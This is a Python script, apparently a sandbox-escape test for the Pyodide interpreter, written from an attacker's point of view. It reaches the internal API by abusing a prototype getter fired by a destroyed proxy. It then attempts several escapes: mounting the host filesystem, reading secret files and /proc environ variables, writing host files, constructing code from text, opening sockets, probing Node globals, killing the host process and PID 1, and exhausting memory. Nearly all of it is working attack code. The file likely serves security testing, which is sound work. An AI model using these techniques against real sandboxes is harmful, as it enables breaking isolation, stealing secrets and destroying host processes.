"""Gets hold of the JavaScript that the interpreter is made of, as an attacker would, and tries what can be done with it."""
import os

from pyodide._package_loader import loadedPackages
from pyodide.ffi import create_proxy, to_js

Object = loadedPackages.constructor
found = []


def reach_api():
    """A getter on `Object.prototype` is called with the interpreter's API as `this` when a dead proxy is used."""

    def get(this):
        found.append(this)
        return False

    property = to_js({"configurable": True}, dict_converter=Object.fromEntries)
    property.get = create_proxy(get, capture_this=True)
    Object.defineProperty(Object.prototype, "debug_ffi", property)
    dead = create_proxy(lambda *_: None)
    keep = Object.fromEntries(to_js([["dead", dead]]))
    dead.destroy()
    try:
        to_js([1]).forEach(keep.dead)
    except BaseException:
        pass
    return found[0]


def options(**values):
    return to_js(values, dict_converter=Object.fromEntries)


def reach(api):
    api.public_api.version
    print("HAS THE API")


def mount_host(api):
    api.public_api.mountNodeFS("/host1", "/")
    print(open("/host1SECRET").read())


def environ_of_host(api):
    api.public_api.mountNodeFS("/host2", "/proc")
    for process in ("self", "1", "HOST_PROCESS"):
        print(open("/host2/%s/environ" % process).read())


def mount_nodefs(api):
    fs = api.public_api.FS
    fs.mkdir("/host3")
    fs.mount(fs.filesystems.NODEFS, options(root="/"), "/host3")
    print(open("/host3SECRET").read())


def write_through_nodefs(api):
    fs = api.public_api.FS
    fs.mkdir("/host4")
    fs.mount(fs.filesystems.NODEFS, options(root="/"), "/host4")
    open("/host4WRITTEN", "w").write("x")


def code_from_text(api):
    code = "return (globalThis.process ?? {}).pid ?? import('node:fs')"
    for function in (Object.constructor, api.getTypeTag.constructor, api.loadBinaryFile.constructor):
        function(code)
        print("GOT OUT")
    api.rawRun("import js")


def load_package(api):
    api.loadBinaryFile("SECRET", to_js("x"))
    api.public_api.loadPackage("file:///SECRET")
    print(api.packageManager.installBaseUrl, os.listdir("/"))


def node_socket(api):
    api.initializeNodeSockFS()
    socket = api._nodeSock
    print(socket.connect("127.0.0.1", PORT))
    import socket as python_socket

    python_socket.create_connection(("127.0.0.1", PORT), timeout=1)
    print("GOT OUT")


def globals_of_node(api):
    for name in ("process", "require", "fetch", "Buffer"):
        for holder in (api, api.config, api.public_api, api.public_api._module):
            value = getattr(holder, name, None)
            if value is not None and hasattr(value, "mainModule"):
                print("GOT OUT", name)
    module = api.public_api._module
    for name in ("ENVIRONMENT_IS_NODE", "require", "NODEFS", "thisProgram"):
        print(name, getattr(module, name, None))
    print(api.public_api.FS.filesystems.NODEFS.flagsForNodeMap)
    api.public_api.FS.filesystems.NODEFS.staticInit()


def kill_the_host(api):
    os.kill(HOST_PROCESS, 9)
    os.kill(1, 9)


def take_memory(api):
    kind = to_js(b"x").constructor
    taken = []
    for _ in range(64):
        block = kind.new(1 << 27)
        block.fill(1)
        taken.append(block)
    print("GOT OUT")


try:
    globals()["ATTACK"](reach_api() if not hasattr(Object, "debug_ffi") else found[0])
finally:
    try:
        del Object.prototype.debug_ffi
    except BaseException:
        pass
